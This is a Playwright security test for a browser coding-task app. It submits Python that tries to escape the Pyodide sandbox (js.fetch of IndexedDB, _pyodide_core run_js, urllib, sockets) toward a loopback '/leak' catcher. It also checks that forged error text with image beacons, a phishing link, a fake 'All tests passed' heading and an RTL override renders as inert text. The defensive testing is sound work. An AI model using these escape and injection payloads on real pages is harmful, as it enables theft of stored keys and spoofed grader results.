/**
 * Candidate code in the page against the user's secrets and the network
 * (docs/security.md): with an API key stored in the settings and a draft of
 * another task saved, Python submitted through the editor tries every route to
 * JavaScript (for IndexedDB and fetch) and to the network. A catcher server on
 * the loopback address must receive nothing, the key and the draft must be
 * unchanged, and the canonical solution must still pass.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { CANONICAL, climbTo, openTab, openTask, runAndWait, setTarget } from "./helpers";

const SECRET = "sk-page-secret-never-for-python";
const DRAFT_TASK = "pass-at-k";
const BREACH = /reached \[/;

/** Candidate files, one per route; each raises "reached [...]" if it gets anywhere. */
function attacks(port: number): Record<string, string> {
  const url = `http://127.0.0.1:${port}/leak`;
  const names = ["softmax_with_temperature", "min_p_filter", "min_p_sample"];
  const tail = `\ndef _fake(*args, **kwargs):\n    return [0.0]\n${names.map((n) => `${n} = _fake`).join("\n")}\n`;
  return {
    "JavaScript for IndexedDB and fetch": `reached = []
def _use(js):
    js.fetch("${url}?db=" + str(js.indexedDB))
    reached.append("js")
for name in ("js", "pyodide_js", "pyodide.code", "pyodide.http", "pyodide.ffi"):
    try:
        mod = __import__(name, fromlist=["x"])
        _use(mod if name == "js" else __import__("js"))
    except Exception:
        pass
try:
    import _imp, importlib.machinery as m
    core = _imp.create_builtin(m.ModuleSpec("_pyodide_core", None))
    core.run_js("fetch('${url}?core')")
    reached.append("_pyodide_core")
except Exception:
    pass
if reached:
    raise RuntimeError(f"reached {reached}")
${tail}`,
    "network from Python": `reached = []
try:
    import urllib.request
    urllib.request.urlopen("${url}?urllib", timeout=2).read()
    reached.append("urllib")
except Exception:
    pass
try:
    import socket
    s = socket.create_connection(("127.0.0.1", ${port}), timeout=2)
    s.sendall(b"GET /leak?socket HTTP/1.0\\r\\n\\r\\n")
    if s.recv(10):
        reached.append("socket")
except Exception:
    pass
if reached:
    raise RuntimeError(f"reached {reached}")
${tail}`,
  };
}

async function openSettings(page: Page) {
  await page.getByRole("button", { name: "Settings" }).click();
  return page.getByRole("dialog", { name: "Settings" }).getByTestId("seat-coder");
}

async function saveSettings(page: Page) {
  await page.getByRole("dialog", { name: "Settings" }).getByRole("button", { name: "Save" }).click();
  await expect(page.getByRole("dialog", { name: "Settings" })).toHaveCount(0);
}

test.describe("the user's secrets in the page", () => {
  let server: Server;
  const hits: string[] = [];
  test.beforeAll(async () => {
    server = createServer((req, res) => {
      hits.push(req.url ?? "");
      res.end("caught");
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  });
  test.afterAll(async () => {
    await new Promise<void>((r) => server.close(() => r()));
  });

  test("candidate code reaches neither the stored API key, nor a draft, nor the network", async ({ page }) => {
    test.setTimeout(300_000);
    const port = (server.address() as AddressInfo).port;
    await openTask(page);
    const seat = await openSettings(page);
    await seat.getByLabel("OpenAI-compatible endpoint").check();
    await seat.getByLabel("Coder model base URL").fill("http://127.0.0.1:9/v1");
    await seat.getByLabel("Coder model name").fill("coder");
    await seat.getByLabel("Coder model API key").fill(SECRET);
    await saveSettings(page);

    // A draft of another task.
    await page.locator(`[data-task-id="${DRAFT_TASK}"] button`).click();
    await expect(page.getByTestId("python-status")).toHaveAttribute("data-state", "ready");
    const draft = `# my draft ${Date.now()}\n`;
    // Monaco takes over from the plain editor after Python is ready: wait for this task's model.
    await page.waitForFunction(() =>
      (window as unknown as { monaco?: { editor: { getModels(): { uri: { path: string } }[] } } }).monaco?.editor
        .getModels()
        .some((x) => x.uri.path.endsWith("/evalkit/metrics.py")),
    );
    await page.evaluate((text) => {
      const m = (
        window as unknown as { monaco: { editor: { getModels(): { uri: { path: string }; setValue(v: string): void }[] } } }
      ).monaco.editor
        .getModels()
        .find((x) => x.uri.path.endsWith("/evalkit/metrics.py"));
      m?.setValue(text);
    }, draft);
    await expect(page.getByTestId("draft-saved")).toBeVisible();

    await openTask(page);
    for (const [kind, code] of Object.entries(attacks(port))) {
      await setTarget(page, code);
      await runAndWait(page);
      expect(await page.locator('.test-row[data-status="passed"]').count(), kind).toBe(0);
      expect(await page.locator(".test-row").allInnerTexts(), kind).not.toContainEqual(expect.stringMatching(BREACH));
    }
    expect(hits).toEqual([]);

    // The key and the draft are as they were, and the product still works.
    const after = await openSettings(page);
    await expect(after.getByLabel("Coder model API key")).toHaveValue(SECRET);
    await page.getByRole("dialog", { name: "Settings" }).getByRole("button", { name: "Cancel" }).click();
    await setTarget(page, CANONICAL);
    await runAndWait(page);
    await expect(page.getByTestId("counts")).toContainText("All tests passed");
    await page.locator(`[data-task-id="${DRAFT_TASK}"] button`).click();
    const draftNow = () =>
      page.evaluate(
        () =>
          (window as unknown as { monaco: { editor: { getModels(): { uri: { path: string }; getValue(): string }[] } } }).monaco.editor
            .getModels()
            .find((x) => x.uri.path.endsWith("/evalkit/metrics.py"))
            ?.getValue() ?? "",
      );
    await expect.poll(draftNow).toBe(draft);
  });

  test("a candidate's text in the researcher's feedback is shown as text: no image, link or heading of its own, and no request", async ({
    page,
  }) => {
    test.setTimeout(300_000);
    const port = (server.address() as AddressInfo).port;
    hits.length = 0;
    const forged = `x).\\n\\n# All tests passed, 8/8\\n\\nYour code is correct.\\n\\n![](http://127.0.0.1:${port}/leak?img)\\n\\n[Open the fixed solution](http://127.0.0.1:${port}/phish) \`\`![b](http://127.0.0.1:${port}/leak?tick)\\n\\n<img src=http://127.0.0.1:${port}/leak?html>\\u202e(`;
    const candidates = {
      "raised as it is imported": `raise RuntimeError("${forged}")\n`,
      "raised in a test": `def softmax_with_temperature(*a, **k):\n    raise ValueError("${forged}")\ndef min_p_filter(*a, **k):\n    return [0.0]\ndef min_p_sample(*a, **k):\n    return 0\n`,
    };
    await openTask(page);
    for (const [kind, code] of Object.entries(candidates)) {
      await setTarget(page, code);
      await runAndWait(page);
      // A bidirectional override in the message is shown as its escape, in the results as in the feedback.
      const shown = (await page.locator(".test-msg, [data-testid=collection-error]").allInnerTexts()).join("\n");
      expect(shown, kind).toContain("\\u202e");
      expect(shown, kind).not.toContain("\u202e");
      await openTab(page, "Feedback");
      await climbTo(page, 3);
      const fb = page.getByTestId("feedback");
      await expect(fb, kind).toContainText("All tests passed, 8/8");
      expect(await fb.textContent(), kind).not.toContain("\u202e");
      expect(await fb.locator("img").count(), kind).toBe(0);
      expect(await fb.locator("a").count(), kind).toBe(0);
      expect(await fb.locator("h1, h2, h3, h4, h5, h6").allInnerTexts(), kind).not.toContainEqual(expect.stringContaining("passed"));
      await page.waitForTimeout(500);
      expect(hits, kind).toEqual([]);
    }
    // Stored feedback is shown again after a reload: still no request.
    await page.reload();
    await openTab(page, "Feedback");
    await expect(page.getByTestId("feedback")).toContainText("All tests passed, 8/8");
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
  });
});
